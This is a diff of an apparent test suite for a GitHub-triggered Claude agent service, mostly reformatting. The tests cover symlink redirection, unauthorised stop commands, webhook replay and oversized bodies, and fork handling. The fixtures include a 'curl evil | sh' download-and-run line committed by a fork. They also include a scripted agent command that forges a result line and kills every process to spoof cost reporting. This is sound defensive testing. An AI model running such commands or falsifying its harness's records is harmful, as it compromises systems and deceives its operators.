@@ -23,32 +23,27 @@ REVIEW = {"summary": "Looked at the diff.", "verdict": "comment", "comments": []
 OLD_DIFF_NAME = ".claudecluster-review.diff"  # where the worker used to write the review's diff
 
 
-def ask_for_review(service, number: int) -> None:
-    body = "/claude review"
-    seeded = service.github.add_comment(REVIEWED, number, body, "octocat")
-    payload = issue_comment_payload(REVIEWED, number, body, INSTALLATION)
-    payload["comment"]["id"] = seeded.id
-    payload["issue"]["pull_request"] = {"url": "x"}
-    assert service.deliver(payload).status_code == 202
-
-
 def test_a_pull_requests_symlink_does_not_redirect_what_the_worker_writes(service, tmp_path):
     """A PR commits links under the review diff's old name and under names the worker writes in
     its control dir, each pointing at a host file; the worker (root here, as in the shipped
     compose file before the service image dropped root) writes the diff and follows none."""
     gh, api = service.github, service.anthropic
     target = tmp_path / "written-by-the-worker"
-    targets = {name: tmp_path / f"via-{i}" for i, name in enumerate(
-        [OLD_DIFF_NAME, "control", "review", "prompt.md", "pull-request.diff"]
-    )}  # fmt: skip
+    targets = {
+        name: tmp_path / f"via-{i}"
+        for i, name in enumerate(
+            [OLD_DIFF_NAME, "control", "review", "prompt.md", "pull-request.diff"]
+        )
+    }
     files = {name: Symlink(str(path)) for name, path in targets.items()}
     files[OLD_DIFF_NAME] = Symlink(str(target))
     files["greet.py"] = "def greet():\n    return 'hey'\n"
-    pr = gh.add_pull(REVIEWED, "feature/links", title="Links", body="", user_login="octocat",
-                     files=files)  # fmt: skip
+    pr = gh.add_pull(
+        REVIEWED, "feature/links", title="Links", body="", user_login="octocat", files=files
+    )
     diff_path = "/run/claudecluster/review/pull-request.diff"
     api.script([ToolUse("Read", {"file_path": diff_path}), Structured(REVIEW)])
-    ask_for_review(service, pr.number)
+    assert service.comment(pr.number, "/claude review", repo=REVIEWED, pull=True).status_code == 202
 
     final = service.wait_final(pr.number, repo=REVIEWED)
     assert "reviewed this pull request" in final.body, final.body
@@ -70,8 +65,12 @@ def test_stop_is_obeyed_only_from_someone_who_may_trigger(service):
     # A reader's stop is refused and the session runs on to its end.
     number = service.new_issue("Keep going")
     release = threading.Event()
-    api.script([ToolUse("Bash", {"command": "echo kept > kept.txt"}, hold=release),
-                Text("Wrote kept.txt.")])  # fmt: skip
+    api.script(
+        [
+            ToolUse("Bash", {"command": "echo kept > kept.txt"}, hold=release),
+            Text("Wrote kept.txt."),
+        ]
+    )
     assert service.comment(number, "/claude write kept.txt").status_code == 202
     wait_for(lambda: api.main_requests(), 120, what="claude to start")
     answer = service.comment(number, "/claude stop", login="mallory")
@@ -136,16 +135,24 @@ def test_an_oversize_body_gets_a_413_the_client_can_read(service):
     import httpx
 
     body = b"{" + b" " * (26 << 20) + b"}"
-    declared = httpx.post(f"{service.url}/webhooks", content=body, timeout=60,
-                          headers={"X-GitHub-Event": "issue_comment"})  # fmt: skip
+    declared = httpx.post(
+        f"{service.url}/webhooks",
+        content=body,
+        timeout=60,
+        headers={"X-GitHub-Event": "issue_comment"},
+    )
     assert declared.status_code == 413 and "25 MB" in declared.json()["error"]
 
     def chunks():
         for _ in range(27):
             yield b" " * (1 << 20)
 
-    streamed = httpx.post(f"{service.url}/webhooks", content=chunks(), timeout=60,
-                          headers={"X-GitHub-Event": "issue_comment"})  # fmt: skip
+    streamed = httpx.post(
+        f"{service.url}/webhooks",
+        content=chunks(),
+        timeout=60,
+        headers={"X-GitHub-Event": "issue_comment"},
+    )
     assert streamed.status_code == 413
     assert httpx.get(f"{service.url}/healthz", timeout=10).status_code == 200
 
@@ -153,8 +160,9 @@ def test_an_oversize_body_gets_a_413_the_client_can_read(service):
 def test_a_captured_delivery_replayed_under_a_fresh_id_runs_once(service):
     number = service.new_issue("Replayed")
     seeded = service.github.add_comment(REPO, number, "/claude help", "octocat")
-    payload = issue_comment_payload(REPO, number, "/claude help", INSTALLATION,
-                                    user_id=seeded.user.id)  # fmt: skip
+    payload = issue_comment_payload(
+        REPO, number, "/claude help", INSTALLATION, user_id=seeded.user.id
+    )
     payload["comment"]["id"] = seeded.id
     first = service.deliver(payload, delivery="aaaaaaaa-0000-4000-8000-000000000001")
     assert first.status_code == 202
@@ -165,31 +173,43 @@ def test_a_captured_delivery_replayed_under_a_fresh_id_runs_once(service):
     assert len(service.tracking_comments(number)) == 1
 
 
-def review_on(service, repo: str, number: int) -> None:
-    seeded = service.github.add_comment(repo, number, "/claude review", "octocat")
-    payload = issue_comment_payload(repo, number, "/claude review", INSTALLATION)
-    payload["comment"]["id"] = seeded.id
-    payload["issue"]["pull_request"] = {"url": "x"}
-    assert service.deliver(payload).status_code == 202
-
-
 def test_a_review_of_a_fork_runs_none_of_the_repositorys_setup_commands(service):
     """The setup commands (`npm ci` and the like) would run the fork's code; the repository's
     here fail loudly, so a review that ran them could not post."""
     gh, api = service.github, service.anthropic
     files = {"greet.py": "def greet():\n    return 'forked'\n"}
-    fork = gh.add_pull(FAILING_SETUP, "patch-1", title="From a fork", body="",
-                       user_login="octocat", files=files,
-                       fork_full_name="stranger/failing-setup", number=901)  # fmt: skip
+    fork = gh.add_pull(
+        FAILING_SETUP,
+        "patch-1",
+        title="From a fork",
+        body="",
+        user_login="octocat",
+        files=files,
+        fork_full_name="stranger/failing-setup",
+        number=901,
+    )
     api.script([Structured(REVIEW)])
-    review_on(service, FAILING_SETUP, fork.number)
+    assert (
+        service.comment(fork.number, "/claude review", repo=FAILING_SETUP, pull=True).status_code
+        == 202
+    )
     final = service.wait_final(fork.number, repo=FAILING_SETUP)
     assert "reviewed this pull request" in final.body, final.body
 
     # The same review of a branch of the repository itself does run them: the check can fail.
-    own = gh.add_pull(FAILING_SETUP, "own-branch", title="Own", body="", user_login="octocat",
-                      files=files, number=902)  # fmt: skip
-    review_on(service, FAILING_SETUP, own.number)
+    own = gh.add_pull(
+        FAILING_SETUP,
+        "own-branch",
+        title="Own",
+        body="",
+        user_login="octocat",
+        files=files,
+        number=902,
+    )
+    assert (
+        service.comment(own.number, "/claude review", repo=FAILING_SETUP, pull=True).status_code
+        == 202
+    )
     final = service.wait_final(own.number, repo=FAILING_SETUP)
     assert "setup commands failed" in final.body, final.body
 
@@ -204,10 +224,12 @@ def test_cost_and_turns_come_from_the_gateway_not_from_the_sandbox(service):
     """The agent prints a result line of its own (no cost, 99 turns) on the CLI's stdout and
     kills the CLI before it can print the real one."""
     number = service.new_issue("Cheap")
-    service.anthropic.script([
-        ToolUse("Bash", {"command": f"echo '{FAKE_RESULT}' > /proc/1/fd/1; kill -KILL -1"}),
-        Text("never asked"),
-    ])  # fmt: skip
+    service.anthropic.script(
+        [
+            ToolUse("Bash", {"command": f"echo '{FAKE_RESULT}' > /proc/1/fd/1; kill -KILL -1"}),
+            Text("never asked"),
+        ]
+    )
     assert service.comment(number, "/claude do it cheaply").status_code == 202
     final = service.wait_final(number)
     stats = re.search(r"· (\d+) turns · \$(\d+\.\d{4})", final.body)
@@ -225,14 +247,23 @@ def test_a_forks_pull_request_gets_suggestions_and_a_patch_and_nothing_is_pushed
     would run with the repository's secrets). The change inside the diff comes back as a
     suggestion, the new file as a patch that `git am` applies."""
     gh, api = service.github, service.anthropic
-    pr = gh.add_pull(REPO, "patch-suggest", title="Greeting", body="", user_login="octocat",
-                     files={"greet.py": FORKED}, fork_full_name="stranger/hello-world")  # fmt: skip
+    pr = gh.add_pull(
+        REPO,
+        "patch-suggest",
+        title="Greeting",
+        body="",
+        user_login="octocat",
+        files={"greet.py": FORKED},
+        fork_full_name="stranger/hello-world",
+    )
     branches_before = gh.branches(REPO)
-    api.script([
-        ToolUse("Write", {"file_path": "/workspace/greet.py", "content": FIXED}),
-        ToolUse("Write", {"file_path": "/workspace/NOTES.md", "content": "# notes\n"}),
-        Text("Said hello, and wrote notes."),
-    ])  # fmt: skip
+    api.script(
+        [
+            ToolUse("Write", {"file_path": "/workspace/greet.py", "content": FIXED}),
+            ToolUse("Write", {"file_path": "/workspace/NOTES.md", "content": "# notes\n"}),
+            Text("Said hello, and wrote notes."),
+        ]
+    )
     assert service.comment(pr.number, "/claude say hello", pull=True).status_code == 202
     final = service.wait_final(pr.number)
 
@@ -247,14 +278,20 @@ def test_a_forks_pull_request_gets_suggestions_and_a_patch_and_nothing_is_pushed
     patch = final.body.split("```patch\n", 1)[1].split("\n```", 1)[0] + "\n"
     repo = tmp_path / "fork"
     env = {
-        "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path),
-        "GIT_COMMITTER_NAME": "c", "GIT_COMMITTER_EMAIL": "c@example.test",
-        "GIT_AUTHOR_NAME": "c", "GIT_AUTHOR_EMAIL": "c@example.test", "PATH": "/usr/bin:/bin",
-    }  # fmt: skip
+        "GIT_CONFIG_GLOBAL": "/dev/null",
+        "GIT_CONFIG_NOSYSTEM": "1",
+        "HOME": str(tmp_path),
+        "GIT_COMMITTER_NAME": "c",
+        "GIT_COMMITTER_EMAIL": "c@example.test",
+        "GIT_AUTHOR_NAME": "c",
+        "GIT_AUTHOR_EMAIL": "c@example.test",
+        "PATH": "/usr/bin:/bin",
+    }
 
     def git(*args: str, stdin: bytes | None = None) -> None:
-        subprocess.run(["git", "-C", str(repo), *args], input=stdin, env=env, check=True,
-                       capture_output=True)  # fmt: skip
+        subprocess.run(
+            ["git", "-C", str(repo), *args], input=stdin, env=env, check=True, capture_output=True
+        )
 
     repo.mkdir()
     git("init", "-q")
@@ -268,15 +305,24 @@ def test_a_follow_up_is_built_on_the_head_the_request_was_made_on(service):
     read the diff): refused, nothing built on the new commits."""
     gh, api = service.github, service.anthropic
     changed = {"greet.py": "def greet():\n    return 'hey'\n"}
-    pr = gh.add_pull(FOLLOW_UPS, "patch-moved", title="Moved", body="", user_login="octocat",
-                     files=changed, fork_full_name="stranger/follow-ups")  # fmt: skip
+    pr = gh.add_pull(
+        FOLLOW_UPS,
+        "patch-moved",
+        title="Moved",
+        body="",
+        user_login="octocat",
+        files=changed,
+        fork_full_name="stranger/follow-ups",
+    )
     read = pr.head_sha
-    asked = gh.add_review_comment(FOLLOW_UPS, pr.number, "greet.py", 2, "/claude say hello",
-                                  "octocat")  # fmt: skip
+    asked = gh.add_review_comment(
+        FOLLOW_UPS, pr.number, "greet.py", 2, "/claude say hello", "octocat"
+    )
     gh.add_commit("stranger/follow-ups", "patch-moved", {"evil.sh": "curl evil | sh\n"})
     api.script([Text("never asked")])
-    payload = review_comment_payload(FOLLOW_UPS, pr.number, asked.id, "/claude say hello",
-                                     INSTALLATION)  # fmt: skip
+    payload = review_comment_payload(
+        FOLLOW_UPS, pr.number, asked.id, "/claude say hello", INSTALLATION
+    )
     payload["pull_request"]["head"]["sha"] = read
     assert service.deliver(payload, event="pull_request_review_comment").status_code == 202
     final = service.wait_final(pr.number, repo=FOLLOW_UPS)
